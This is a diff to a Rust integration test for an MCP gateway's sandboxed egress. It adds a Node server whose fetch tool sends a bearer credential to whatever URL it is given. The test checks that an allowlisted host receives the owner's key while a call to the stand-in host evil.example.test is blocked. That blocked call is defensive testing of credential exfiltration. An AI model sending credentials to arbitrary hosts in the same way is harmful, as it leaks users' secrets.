@@ -6,28 +6,24 @@ mod common;
 
 use common::{RawClient, TestGateway};
 use gigmcp_oci::pack::{LayerCompression, PackArgs};
+use gigmcp_proxy::CertificateAuthority;
+use gigmcp_registry::Manifest;
 use gigmcp_store::{NewServer, ServerSource};
 use gigmcp_testkit::rootfs;
 use serde_json::json;
+use std::net::Ipv4Addr;
+use std::path::{Path, PathBuf};
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn the_npm_everything_server_runs_from_an_oci_image_through_the_gateway() {
-    let work = tempfile::tempdir().unwrap();
-    let root = work.path().join("rootfs");
-    rootfs::node_everything(&root);
-    let layout = work.path().join("layout");
+/// Packs `root` into an OCI image layout at `layout`; returns the `oci:` reference by digest.
+async fn pack(root: PathBuf, entrypoint: &[&str], layout: &Path) -> String {
     let packed = gigmcp_oci::pack::run(&PackArgs {
         binary: None,
         dir: Some(root),
-        entrypoint: vec![
-            "node".into(),
-            rootfs::EVERYTHING_ENTRY.into(),
-            "stdio".into(),
-        ],
+        entrypoint: entrypoint.iter().map(|s| s.to_string()).collect(),
         cmd: Vec::new(),
         env: vec![("PATH".into(), "/usr/bin:/bin".into())],
         workdir: Some("/app".into()),
-        layout: Some(layout.clone()),
+        layout: Some(layout.to_path_buf()),
         tag: Some("v1".into()),
         push: None,
         insecure: false,
@@ -37,9 +33,18 @@ async fn the_npm_everything_server_runs_from_an_oci_image_through_the_gateway() 
     })
     .await
     .unwrap();
+    format!("oci:{}@{}", layout.display(), packed.digest)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_npm_everything_server_runs_from_an_oci_image_through_the_gateway() {
+    let work = tempfile::tempdir().unwrap();
+    let root = work.path().join("rootfs");
+    rootfs::node_everything(&root);
+    let layout = work.path().join("layout");
+    let reference = pack(root, &["node", rootfs::EVERYTHING_ENTRY, "stdio"], &layout).await;
 
     let gw = TestGateway::start().await;
-    let reference = format!("oci:{}@{}", layout.display(), packed.digest);
     gw.store
         .create_server(NewServer {
             name: "everything".into(),
@@ -93,6 +98,145 @@ async fn the_npm_everything_server_runs_from_an_oci_image_through_the_gateway() 
     assert!(
         message.contains("could not be started") && message.contains("pulling"),
         "{out}"
+    );
+    gw.stop().await;
+}
+
+/// A Node server with no dependencies whose one tool calls Node's built-in `fetch`, which
+/// ignores HTTPS_PROXY: it resolves the name with the C library and connects straight to it,
+/// sending the sealed placeholder it was given.
+const NODE_FETCH: &str = r#"
+const readline = require("node:readline");
+const send = (msg) => process.stdout.write(JSON.stringify(msg) + "\n");
+async function get(url) {
+  try {
+    const res = await fetch(url, {
+      headers: { authorization: "Bearer " + process.env.GIG_CREDENTIAL_API_KEY },
+    });
+    return `${res.status} ${await res.text()}`;
+  } catch (e) {
+    return `failed: ${e.cause ? e.cause.code || e.cause.message : e.message}`;
+  }
+}
+readline.createInterface({ input: process.stdin }).on("line", async (line) => {
+  const msg = JSON.parse(line);
+  if (msg.id === undefined) return;
+  let result = {};
+  if (msg.method === "initialize") {
+    result = { protocolVersion: "2025-11-25", capabilities: { tools: {} },
+               serverInfo: { name: "node-fetch", version: "0" } };
+  } else if (msg.method === "tools/list") {
+    result = { tools: [{ name: "get", inputSchema: { type: "object",
+               properties: { url: { type: "string" } }, required: ["url"] } }] };
+  } else if (msg.method === "tools/call") {
+    result = { content: [{ type: "text", text: await get(msg.params.arguments.url) }] };
+  }
+  send({ jsonrpc: "2.0", id: msg.id, result });
+});
+"#;
+
+const NODE_FETCH_MANIFEST: &str = r#"
+schemaVersion: 1
+name: node-fetch
+version: 0.1.0
+source: {repo: github.com/gigmcp/gigmcp, tag: v0.1.0}
+image: {ref: ghcr.io/gigmcp/node-fetch, digest: "sha256:abababababababababababababababababababababababababababababababab", entrypoint: node}
+tier: sealed
+displayName: Node fetch
+category: testing
+entitlements:
+  egress: [api.example.test]
+credentials:
+  - id: api_key
+    type: api_key
+    provider: example
+    inject: {header: Authorization, format: "Bearer {token}"}
+tools:
+  - {name: get, default: true}
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_image_server_using_node_fetch_reaches_allowed_hosts_with_the_owner_s_key() {
+    let work = tempfile::tempdir().unwrap();
+    let root = work.path().join("rootfs");
+    rootfs::node_script(&root, NODE_FETCH);
+    let reference = pack(
+        root,
+        &["node", "/app/server.js"],
+        &work.path().join("layout"),
+    )
+    .await;
+
+    let upstream_ip = Ipv4Addr::new(127, 0, 0, 46);
+    let upstream_ca = CertificateAuthority::generate("test upstream CA").unwrap();
+    common::upstream::upstream_at(upstream_ip, &upstream_ca, &[("DANAKEY", "dana")]).await;
+    let bundle = work.path().join("upstream-ca.pem");
+    std::fs::write(&bundle, upstream_ca.cert_pem()).unwrap();
+    let gw = TestGateway::start_with(|raw| {
+        raw.sandbox_network = true;
+        raw.egress_allow_ranges = vec!["127.0.0.0/8".into()];
+        raw.egress_ca_bundle = Some(bundle.display().to_string());
+        raw.egress_resolve = vec![
+            format!("{}={upstream_ip}", common::upstream::HOST),
+            format!("evil.example.test={upstream_ip}"),
+        ];
+    })
+    .await;
+    let server = gw
+        .store
+        .create_server(NewServer {
+            name: "web".into(),
+            source: ServerSource::Image { reference },
+        })
+        .await
+        .unwrap();
+    let manifest = Manifest::from_yaml(NODE_FETCH_MANIFEST.as_bytes()).unwrap();
+    gw.store
+        .set_server_manifest(
+            server.id,
+            &serde_json::to_string(&manifest).unwrap(),
+            &manifest.runtime_hash(),
+        )
+        .await
+        .unwrap();
+    let p = gw.add_profile_of("dana", "dana-dev", &["web"]).await;
+    let owner = gw.store.user_by_username("dana").await.unwrap().unwrap();
+    gigmcp_vault::put_secret(
+        &gw.store,
+        &gw.keyring,
+        owner.id,
+        server.id,
+        "api_key",
+        b"DANAKEY",
+    )
+    .await
+    .unwrap();
+    let mut c = RawClient::new(gw.url("dana-dev"), &p.token);
+    c.initialize().await;
+    let get = |id: i64, url: &'static str| {
+        let c = &c;
+        async move {
+            let out = c
+                .call(
+                    id,
+                    "tools/call",
+                    json!({"name": "web_get", "arguments": {"url": url}}),
+                )
+                .await;
+            out["result"]["content"][0]["text"]
+                .as_str()
+                .unwrap_or_else(|| panic!("{out}"))
+                .to_string()
+        }
+    };
+    assert_eq!(
+        get(2, "https://api.example.test/v1/me").await,
+        "200 hello dana"
+    );
+    // not allowlisted: the gateway's resolver says the name does not exist
+    assert_eq!(
+        get(3, "https://evil.example.test/").await,
+        "failed: ENOTFOUND"
     );
     gw.stop().await;
 }
